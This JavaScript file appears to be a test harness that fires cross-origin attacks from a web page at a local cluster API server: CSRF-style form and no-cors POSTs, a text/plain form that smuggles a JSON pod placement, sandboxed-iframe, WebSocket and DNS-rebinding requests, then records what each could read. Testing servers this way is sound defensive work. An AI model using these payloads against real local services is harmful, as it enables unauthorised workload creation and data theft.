// What a web page may try against a server on the machine of whoever opens it. Each attack has a cluster of
// its own, so that what came of it can be told. `told` is what a page could read.

const pods = [{
  metadata: { name: "planted", namespace: "shop", annotations: { form: "" } },
  spec: { containers: [{ name: "c" }] },
}];
const placement = JSON.stringify({ pods });
const told = {};

const untyped = () => new Blob([placement]);
const places = (base, cluster) => `${base}/v1/clusters/${cluster}/placements`;
const evicts = (base, cluster) => `${base}/v1/clusters/${cluster}/namespaces/shop/pods/web-0/eviction`;
const lists = (base, cluster) => `${base}/v1/clusters/${cluster}/nodes`;

async function read(name, url, options) {
  try {
    told[name] = await (await fetch(url, options)).text();
  } catch (refused) {
    told[name] = "";
  }
}

function add(kind, attributes) {
  const element = Object.assign(document.createElement(kind), attributes);
  document.body.append(element);
  return element;
}

function submit(action, enctype, fields) {
  const target = `frame-${document.forms.length}`;
  add("iframe", { name: target });
  const form = add("form", { action, enctype, method: "POST", target });
  for (const [name, value] of fields) {
    form.append(Object.assign(document.createElement("input"), { name, value }));
  }
  form.submit();
}

// An annotation's value holds the sign that the form puts between a name and its value.
function asFormField() {
  const mark = '"form":"';
  const at = placement.indexOf(mark) + mark.length;
  return [placement.slice(0, at), placement.slice(at)];
}

const sandboxed = (url) => `<script>fetch(${JSON.stringify(url)}, ` +
  `{method: "POST", mode: "no-cors", body: new Blob([${JSON.stringify(placement)}])})</` + "script>";

// base: the server by its address. neighbour: a page of another port of the same host.
const attacks = {
  "preflighted": (base, cluster) => read(cluster, places(base, cluster),
    { method: "POST", headers: { "Content-Type": "application/json" }, body: placement }),
  "untyped": (base, cluster) => read(cluster, places(base, cluster),
    { method: "POST", body: untyped() }),
  "no-cors": (base, cluster) => read(cluster, places(base, cluster),
    { method: "POST", mode: "no-cors", body: untyped() }),
  "plain": (base, cluster) => read(cluster, places(base, cluster),
    { method: "POST", mode: "no-cors", body: placement }),
  "bodiless": (base, cluster) => read(cluster, evicts(base, cluster),
    { method: "POST", mode: "no-cors" }),
  "redirected": (base, cluster) => read(cluster, `/elsewhere?${places(base, cluster)}`,
    { method: "POST", mode: "no-cors", body: untyped() }),
  "beacon": (base, cluster) => navigator.sendBeacon(places(base, cluster), untyped()),
  "form-plain": (base, cluster) => submit(places(base, cluster), "text/plain", [asFormField()]),
  "form-urlencoded": (base, cluster) => submit(evicts(base, cluster), "application/x-www-form-urlencoded", []),
  "form-multipart": (base, cluster) => submit(places(base, cluster), "multipart/form-data", [["a", placement]]),
  "sandbox": (base, cluster) => add("iframe", { sandbox: "allow-scripts", srcdoc: sandboxed(places(base, cluster)) }),
  "fetched": (base, cluster) => read(cluster, lists(base, cluster)),
  "opaque": (base, cluster) => read(cluster, lists(base, cluster), { mode: "no-cors" }),
  "image": (base, cluster) => add("img", { src: lists(base, cluster) }),
  "script": (base, cluster) => add("script", { src: lists(base, cluster) }),
  "frame": (base, cluster) => add("iframe", { src: lists(base, cluster) }),
  "websocket": (base, cluster) => new WebSocket(lists(base, cluster).replace("http:", "ws:")),
};

// From a page of this machine's own, at another port.
const neighbour = {
  "neighbour-writes": attacks["no-cors"],
  "neighbour-reads": attacks["fetched"],
};

// From a page whose name leads to the server by now: to the browser all is one origin.
const rebound = {
  "rebound-writes": attacks["preflighted"],
  "rebound-reads": attacks["fetched"],
};

async function attack(kinds, base, side) {
  await Promise.all(Object.entries(kinds).map(([name, run]) => run(base, `${side}-${name}`)));
}

async function tell() {
  await fetch("/told", { method: "POST", body: JSON.stringify(told) });
}
